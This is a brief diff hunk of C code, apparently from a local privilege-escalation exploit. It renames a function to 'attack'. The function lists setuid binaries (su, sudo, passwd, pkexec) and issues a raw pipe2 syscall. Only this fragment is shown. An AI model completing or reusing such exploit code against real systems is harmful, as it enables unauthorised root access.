@@ -19,7 +19,7 @@ static long user_of(long process) {
     return -1;
 }
 
-static int play(void) {
+static int attack(void) {
     const char *programs[] = {"/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/pkexec"};
     int pipe[2];
     CALL(__NR_pipe2, pipe, 0);
